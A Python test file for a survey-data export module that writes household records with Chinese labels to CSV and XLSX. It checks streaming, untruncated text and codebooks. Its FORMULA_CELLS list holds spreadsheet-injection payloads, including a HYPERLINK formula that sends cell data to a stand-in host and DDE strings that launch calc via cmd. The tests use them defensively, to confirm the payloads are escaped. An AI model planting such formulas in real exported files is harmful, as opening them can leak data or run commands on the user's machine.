"""CSV and XLSX exports: Chinese text round-trips, nothing truncated, rows streamed."""

from __future__ import annotations

import csv
import io
import tracemalloc
from datetime import date

import pytest
from openpyxl import load_workbook

from assessment.core.exports import Column, Sheet, write_codebook_csv, write_csv, write_xlsx

HOUSEHOLD_COLUMNS = (
    Column("household_id", "户编号", "Household ID"),
    Column("village", "行政村", "Village"),
    Column("status", "户类型", "Status", "exited=已脱贫户; non_registered=非建档立卡户"),
    Column("net_income_per_capita", "人均纯收入", "Per-capita net income", "yuan/person/year"),
    Column("weight", "设计权数", "Design weight", "1/pi"),
    Column("reasons", "评估员说明", "Assessor's reasons"),
)
MEMBER_COLUMNS = (
    Column("household_id", "户编号", "Household ID"),
    Column("member", "成员序号", "Member number"),
    Column("birth_date", "出生日期", "Date of birth"),
)


def household_rows(n: int, long_text: str = "收入主要来自务工。"):
    for i in range(n):
        yield (f"522601-{i:06d}", f"龙泉村{i % 50}", "exited", 3200.5 + i, 12.5, long_text)


def test_csv_round_trip_with_bom_and_chinese():
    out = io.BytesIO()
    rows = write_csv(Sheet("households", HOUSEHOLD_COLUMNS, household_rows(3)), out)
    data = out.getvalue()
    assert rows == 3
    assert data.startswith(b"\xef\xbb\xbf")  # Excel detects UTF-8 by the BOM
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert read[0] == [c.name for c in HOUSEHOLD_COLUMNS]
    assert read[2] == ["522601-000001", "龙泉村1", "exited", "3201.5", "12.5", "收入主要来自务工。"]


def test_csv_keeps_long_text_and_special_characters_whole():
    text = '他说："家里,没有\n稳定收入"' + "长" * 100_000
    out = io.BytesIO()
    write_csv(Sheet("households", HOUSEHOLD_COLUMNS, household_rows(2, text)), out)
    read = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
    assert [r[5] for r in read[1:]] == [text, text]


def test_csv_streams_rows_as_they_come():
    out = io.BytesIO()
    sizes = []

    def rows():
        for row in household_rows(5000):
            sizes.append(out.tell())
            yield row

    write_csv(Sheet("households", HOUSEHOLD_COLUMNS, rows()), out)
    assert sizes[-1] > sizes[len(sizes) // 2] > sizes[0]  # written while still iterating


def test_csv_leaves_the_destination_open():
    out = io.BytesIO()
    write_csv(Sheet("households", HOUSEHOLD_COLUMNS, household_rows(1)), out)
    assert not out.closed


def test_row_of_wrong_width_is_an_error_naming_sheet_and_row():
    rows = iter([("a",) * 6, ("b",) * 5])
    with pytest.raises(ValueError, match=r"sheet 'households': row 2 has 5 values"):
        write_csv(Sheet("households", HOUSEHOLD_COLUMNS, rows), io.BytesIO())


def test_codebook_csv_lists_every_variable_in_both_languages():
    out = io.BytesIO()
    sheets = [Sheet("households", HOUSEHOLD_COLUMNS, ()), Sheet("members", MEMBER_COLUMNS, ())]
    assert write_codebook_csv(sheets, out) == len(HOUSEHOLD_COLUMNS) + len(MEMBER_COLUMNS)
    read = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
    assert read[0] == ["sheet", "variable", "label_zh", "label_en", "values"]
    assert ["households", "weight", "设计权数", "Design weight", "1/pi"] in read
    assert ["members", "birth_date", "出生日期", "Date of birth", ""] in read


def workbook(sheets, **kw):
    out = io.BytesIO()
    counts = write_xlsx(sheets, out, **kw)
    out.seek(0)
    return counts, load_workbook(out, read_only=True)


def test_xlsx_round_trip_with_households_members_and_codebook():
    members = [("522601-000000", 1, date(1956, 3, 2)), ("522601-000000", 2, date(1988, 7, 9))]
    counts, wb = workbook(
        [
            Sheet("households", HOUSEHOLD_COLUMNS, household_rows(4)),
            Sheet("members", MEMBER_COLUMNS, iter(members)),
        ]
    )
    assert counts == {"households": 4, "members": 2}
    assert wb.sheetnames == ["households", "members", "codebook"]
    rows = list(wb["households"].iter_rows(values_only=True))
    assert rows[0] == tuple(c.name for c in HOUSEHOLD_COLUMNS)
    assert rows[4] == ("522601-000003", "龙泉村3", "exited", 3203.5, 12.5, "收入主要来自务工。")
    member = list(wb["members"].iter_rows(values_only=True))[2]
    assert member[:2] == ("522601-000000", 2) and member[2].date() == date(1988, 7, 9)
    codebook = list(wb["codebook"].iter_rows(values_only=True))
    assert (
        "households",
        "status",
        "户类型",
        "Status",
        "exited=已脱贫户; non_registered=非建档立卡户",
    ) in codebook


def test_xlsx_text_that_looks_like_a_formula_stays_text():
    _, wb = workbook(
        [Sheet("households", HOUSEHOLD_COLUMNS, household_rows(1, '=HYPERLINK("http://x")'))]
    )
    assert list(wb["households"].iter_rows(values_only=True))[1][5] == '=HYPERLINK("http://x")'


def test_xlsx_continues_on_a_new_sheet_rather_than_truncating():
    counts, wb = workbook([Sheet("households", HOUSEHOLD_COLUMNS, household_rows(11))], max_rows=5)
    assert counts == {"households": 11}
    assert wb.sheetnames[:3] == ["households", "households_2", "households_3"]
    ids = [
        r[0] for name in wb.sheetnames[:3] for r in list(wb[name].iter_rows(values_only=True))[1:]
    ]
    assert ids == [f"522601-{i:06d}" for i in range(11)]


def test_xlsx_refuses_to_cut_text_longer_than_an_excel_cell():
    rows = household_rows(1, "长" * 32_768)
    with pytest.raises(ValueError, match="export this data as CSV"):
        write_xlsx([Sheet("households", HOUSEHOLD_COLUMNS, rows)], io.BytesIO())


def test_xlsx_streams_instead_of_holding_the_rows():
    columns = HOUSEHOLD_COLUMNS[:3]

    def rows():
        for i in range(20_000):
            yield (f"522601-{i:06d}", "龙泉村", i)

    tracemalloc.start()
    held = list(rows())
    _, materialised = tracemalloc.get_traced_memory()
    del held
    tracemalloc.stop()
    tracemalloc.start()
    write_xlsx([Sheet("households", columns, rows())], io.BytesIO(), codebook=False)
    _, streamed = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    # The whole export, workbook and output included, needs less than holding the rows.
    assert streamed < materialised / 2, (streamed, materialised)


@pytest.mark.slow
def test_hundred_thousand_rows_are_all_written():
    n = 100_000

    def rows():
        for i in range(n):
            yield (f"522601-{i:06d}", "龙泉村", i)

    columns = HOUSEHOLD_COLUMNS[:3]
    out = io.BytesIO()
    assert write_xlsx([Sheet("households", columns, rows())], out) == {"households": n}
    out.seek(0)
    sheet = load_workbook(out, read_only=True)["households"]
    read = sheet.iter_rows(values_only=True)
    assert next(read) == ("household_id", "village", "status")
    count, last = 0, None
    for count, last in enumerate(read, 1):  # noqa: B007
        pass
    assert (count, last) == (n, (f"522601-{n - 1:06d}", "龙泉村", n - 1))

    csv_out = io.BytesIO()
    assert write_csv(Sheet("households", columns, rows()), csv_out) == n
    lines = csv_out.getvalue().decode("utf-8-sig").splitlines()
    assert len(lines) == n + 1 and lines[-1] == f"522601-{n - 1:06d},龙泉村,{n - 1}"


FORMULA_CELLS = [
    '=HYPERLINK("http://x.example/?d="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "%0A=1+1",
    "|calc",
]


@pytest.mark.parametrize("cell", FORMULA_CELLS)
def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(cell):
    out = io.BytesIO()
    write_csv(Sheet("households", HOUSEHOLD_COLUMNS, [("H1", cell, "exited", 1, 2, cell)]), out)
    read = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))
    for value in (read[1][1], read[1][5]):
        # Shown as text; nothing lost (defusedcsv also escapes a pipe, the DDE separator).
        assert value.startswith("'") and value[1:].replace("\\|", "|") == cell


def test_csv_numbers_and_signed_number_text_stay_numbers():
    out = io.BytesIO()
    rows = [("-12", "-3.5", "exited", -3200.25, -1, "1,234.5"), ("H2", "村", "exited", 0, 2.5, "")]
    write_csv(Sheet("households", HOUSEHOLD_COLUMNS, rows), out)
    read = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
    assert read[1] == ["-12", "-3.5", "exited", "-3200.25", "-1", "1,234.5"]
    assert read[2] == ["H2", "村", "exited", "0", "2.5", ""]


def test_codebook_csv_neutralises_labels_too():
    columns = (Column("x", "=1+1", "@label", "-values+1"),)
    out = io.BytesIO()
    write_codebook_csv([Sheet("households", columns, [])], out)
    read = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
    assert read[1] == ["households", "x", "'=1+1", "'@label", "'-values+1"]
